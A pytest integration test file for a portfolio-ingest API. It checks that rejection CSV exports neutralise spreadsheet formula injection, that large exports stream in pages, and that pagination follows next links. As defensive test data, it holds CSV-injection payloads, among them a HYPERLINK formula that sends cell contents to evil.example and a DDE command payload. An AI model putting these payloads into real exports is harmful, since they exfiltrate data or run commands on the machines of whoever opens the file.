"""The rejections and warnings CSV through the real API and PostgreSQL: every cell a spreadsheet could run as a
formula is neutralised, the file's own headers included; and a large rejections export (20,000 under `make test`,
200,000 under `make test-full`) is streamed a page at a time, its memory one page, not the whole file."""

import asyncio
import csv
import datetime as dt
import io
import tracemalloc
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text

from ingest import handlers
from ingest.main import build
from ingest.settings import IngestSettings
from recaudo_common.personal_data import Vault
from recaudo_common.runtime import Platform, build_app, make_platform
from recaudo_common.testing import settings_for_test, sized

pytestmark = pytest.mark.integration
NOW = dt.datetime(2026, 3, 31, 15, 0, tzinfo=dt.UTC)
BANCO = {"slug": "banco", "name": "Banco", "country": "CO", "currency": "COP", "timezone": "America/Bogota",
         "locale": "es-CO", "default_authorised_channels": ["sms"]}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class Api:
    def __init__(self, platform: Platform, app: FastAPI, key: str, http: httpx.AsyncClient) -> None:
        self.platform, self.app, self.key, self.http = platform, app, key, http

    async def upload(self, content: bytes) -> dict[str, Any]:
        answer = await self.http.post("/v1/clients/banco/portfolios", files={"file": ("cartera.csv", content)})
        assert answer.status_code == 202, answer.text
        while await handlers.process_next_portfolio(self.platform.db, clock=lambda: NOW,
                                                     vault=Vault.from_settings(self.platform.settings)):
            pass
        return dict((await self.http.get(f"/v1/portfolios/{answer.json()['id']}")).json())


@pytest.fixture
async def api(database_url: str) -> AsyncIterator[Api]:
    platform = make_platform(settings_for_test(database_url), pool_size=4, clock=lambda: NOW)
    app = build_app(platform, [build(platform, IngestSettings(max_upload_bytes=2_000_000))])  # the runtime's wiring
    _, key = await platform.keys.create(role="operator", now=NOW)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://test",
                                 headers={"Authorization": f"Bearer {key}"}) as http:
        assert (await http.post("/v1/clients", json=BANCO)).status_code == 201
        yield Api(platform, app, key, http)
    await platform.db.dispose()


def looks_like_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


async def test_every_cell_of_the_export_is_neutralised_headers_included(api: Api) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "@SUM(1+1)", "+1+1", "-2+3*cmd", "\tTAB",
               "=cmd|' /C calc'!A0"]
    header = ";".join(["Obligación", "Cédula", "Nombre", "Saldo", "Días Mora", *hostile])
    rows = [";102;=HYPERLINK(\"http://evil\");1.000;5;" + ";".join(hostile),   # no account: rejected
            "A-2;103;@Eva;-1;5;" + ";".join(hostile)]                           # balance <= 0: rejected
    done = await api.upload(("\r\n".join([header, *rows]) + "\r\n").encode())
    assert done["status"] == "completed" and done["rows_rejected"] == 2, done

    answer = await api.http.get(f"/v1/portfolios/{done['id']}/rejections", params={"format": "csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))  # es-CO
    assert table[0][:5] == ["fila", "campo", "código", "significado", "detalle"]  # es-CO: in Spanish
    assert [line[3:5] for line in table[1:]] == [
        ["Falta la referencia de la obligación", "La referencia de la obligación está en blanco"],
        ["Saldo no válido", "El saldo debe ser mayor que 0 y menor que 10^12, al centavo"]]  # the detail in Spanish
    cells = [cell for line in table for cell in line]
    formulas = [cell for cell in cells if looks_like_formula(cell) and cell != "-1"]
    assert formulas == [], formulas
    # What the client wrote is all there, behind a quote (ingest trims a header's surrounding blanks).
    for text_ in hostile:
        assert ("'" + text_ if not text_.startswith("\t") else text_.strip()) in table[0], (text_, table[0])
    assert "'=HYPERLINK(\"http://evil\")" in cells and "'@Eva" in cells


@dataclass
class Received:
    """What a client received, without keeping it: a copy would weigh what the test measures."""

    status: int = 0
    chunks: int = 0
    largest: int = 0
    total: int = 0
    lines: int = 0
    first: bytes = b""
    last: bytes = b""
    peaks: list[int] = field(default_factory=list)  # traced memory's peak as each chunk was sent


async def asgi_get(app: FastAPI, path: str, query: str, key: str) -> Received:
    """GET through the ASGI interface itself, seeing each body message the app sends as it sends it (an HTTP
    client would join them)."""
    got = Received()
    done = asyncio.Event()
    first = True

    async def receive() -> dict[str, Any]:
        nonlocal first
        if first:
            first = False
            return {"type": "http.request", "body": b"", "more_body": False}
        await done.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            got.status = message["status"]
        elif message["type"] == "http.response.body":
            body = message.get("body", b"")
            if body:
                got.chunks += 1
                got.largest = max(got.largest, len(body))
                got.total += len(body)
                got.lines += body.count(b"\n")
                got.first = got.first or body
                if tracemalloc.is_tracing():
                    got.peaks.append(tracemalloc.get_traced_memory()[1])
                got.last = body
            if not message.get("more_body"):
                done.set()

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
             "path": path, "raw_path": path.encode(), "query_string": query.encode(), "root_path": "",
             "headers": [(b"host", b"test"), (b"authorization", f"Bearer {key}".encode())],
             "server": ("test", 80), "client": ("127.0.0.1", 5000)}
    await app(scope, receive, send)
    return got


async def test_a_large_rejection_export_is_streamed_in_pages(api: Api) -> None:
    done = await api.upload(b"Obligacion;Cedula;Nombre;Saldo;Dias Mora\n;1;Ana;1.000;5\n")
    rejections = sized(20_000, 200_000)
    async with api.platform.db.transaction() as s:
        await s.execute(text(
            "INSERT INTO ingest.row_issues (portfolio_id, kind, row_number, field, code, message, raw) "
            "SELECT :p, 'rejection', n + 2, 'account_ref', 'missing_account_ref', 'the account reference is empty', "
            "jsonb_build_object('Obligacion', '', 'Cedula', n::text, 'Nombre', 'Cliente ' || n, 'Saldo', '1.000', "
            "'Dias Mora', '5', '=Extra', '=1+' || n) FROM generate_series(1, :n) AS n"),
            {"p": uuid.UUID(done["id"]), "n": rejections})

    tracemalloc.start()
    try:
        got = await asgi_get(api.app, f"/v1/portfolios/{done['id']}/rejections", "format=csv", api.key)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert got.status == 200
    assert got.lines == rejections + 1 + 1  # the header, the upload's own rejection, the inserted ones
    assert got.first.decode("utf-8-sig").splitlines()[0].endswith(";'=Extra")
    assert got.last.decode().splitlines()[-1].endswith(f";'=1+{rejections}")
    # Sent as it is read: a chunk per page of a thousand, each about a page's share of the file.
    pages = rejections // 1000
    assert got.chunks >= pages, got
    assert got.largest < 2 * got.total // pages, got
    # Memory one page, not the file: the old export held every row as a dict, then the whole text. Once a few pages
    # are out the peak stops growing: the last three quarters of the file add far less than their own text, which
    # an export holding the file would add at the least.
    settled = got.peaks[len(got.peaks) // 4]
    assert got.total > 2 * 1024 * 1024, got
    assert peak - settled < got.total // 4, (peak, settled, got)


async def test_rejections_are_read_page_by_page_following_next(api: Api) -> None:
    done = await api.upload(b"Obligacion;Cedula;Nombre;Saldo;Dias Mora\n;1;Ana;1.000;5\n")
    async with api.platform.db.transaction() as s:
        await s.execute(text(
            "INSERT INTO ingest.row_issues (portfolio_id, kind, row_number, field, code, message, raw) "
            "SELECT :p, 'rejection', n + 2, 'balance', 'invalid_balance', 'the balance is blank', '{}'::jsonb "
            "FROM generate_series(1, 4) AS n"), {"p": uuid.UUID(done["id"])})
    rows: list[int] = []
    url: str | None = f"/v1/portfolios/{done['id']}/rejections?limit=2"
    while url:
        answer = await api.http.get(url)
        assert answer.status_code == 200, answer.text
        rows += [r["row"] for r in answer.json()["items"]]
        url = answer.json()["next"]
        assert answer.headers.get("Link") == (f'<{url}>; rel="next"' if url else None)
    assert rows == [2, 3, 4, 5, 6]  # the upload's own rejection, then the four, none twice
    bad = await api.http.get(f"/v1/portfolios/{done['id']}/rejections", params={"cursor": "WyJ4Il0"})
    assert (bad.status_code, bad.json()["code"]) == (422, "invalid_cursor")
